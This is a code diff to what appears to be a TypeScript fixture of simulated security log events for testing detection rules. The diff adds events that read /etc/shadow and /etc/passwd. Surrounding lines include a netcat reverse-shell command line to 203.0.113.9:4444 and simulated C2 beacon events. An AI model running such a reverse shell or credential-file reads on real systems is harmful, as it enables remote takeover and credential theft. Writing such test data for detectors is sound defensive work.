@@ -60,6 +60,8 @@ export const EVENTS: Ev[] = [
   linux({ t: 'l-exec', sec: 30, image: '/usr/bin/nc', commandLine: 'nc -e /bin/sh 203.0.113.9 4444', user: 'mallory', dstIp: '203.0.113.9', dstPort: 4444, fields: {
     exe: '/usr/bin/nc', comm: 'nc', uid: '1000', auid: '1000', pid: '3131',
   } }),
+  linux({ t: 'l-open', sec: 31, fields: { type: ['SYSCALL', 'PATH'], name: '/etc/shadow', exe: '/usr/bin/cat' } }),
+  linux({ t: 'l-open2', sec: 32, fields: { type: ['SYSCALL', 'PATH'], name: ['/etc/passwd', '/lib/ld.so'], exe: '/usr/bin/cat' } }),
   // Observation-operator timeline: stage1 at 500, a C2 connection at 510 and one earlier at 400; beacons at 1000–1020 and 2000.
   win({ t: 'p-early', sec: 400, eventId: 3, dstIp: '203.0.113.50', fields: { EventID: 3, DestinationIp: '203.0.113.50' } }),
   win({ t: 'p-stage1', sec: 500, eventId: 1, image: 'C:\\Temp\\stage1.exe', fields: { EventID: 1, Image: 'C:\\Temp\\stage1.exe' } }),
